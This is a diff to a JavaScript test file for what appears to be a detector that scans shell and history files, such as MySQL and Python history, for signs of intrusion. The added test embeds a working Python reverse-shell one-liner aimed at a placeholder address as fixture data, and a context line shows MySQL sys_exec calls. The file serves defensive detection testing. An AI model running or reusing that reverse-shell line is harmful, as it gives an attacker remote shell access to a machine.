@@ -37,3 +37,9 @@ test('a preload list that vim opened, with when; and keys, by the account of a s
 test('one finding for each kind, with how often', () => {
 	expect(ask(mysql("select sys_exec('a');", "select sys_exec('b');"))).toMatchObject([{ facts: { count: 2, 'at-line': 2, line: "select sys_exec('a');" } }]);
 });
+
+test('a shell on a connection, typed into Python', () => {
+	const line = 's=socket.create_connection(("203.0.113.80",9001));[os.dup2(s.fileno(),i) for i in range(3)];pty.spawn("sh")';
+	expect(inWords({ '/home/anna/.python_history': `import socket,pty,os\n${line}\nprint(1)\n` })).toEqual(['medium Python was told to join a shell to the network']);
+	expect(inWords({ '/home/anna/.python_history': 'import socket\nsocket.gethostname()\nimport subprocess\nsubprocess.run(["ls"])\n' })).toEqual([]);
+});
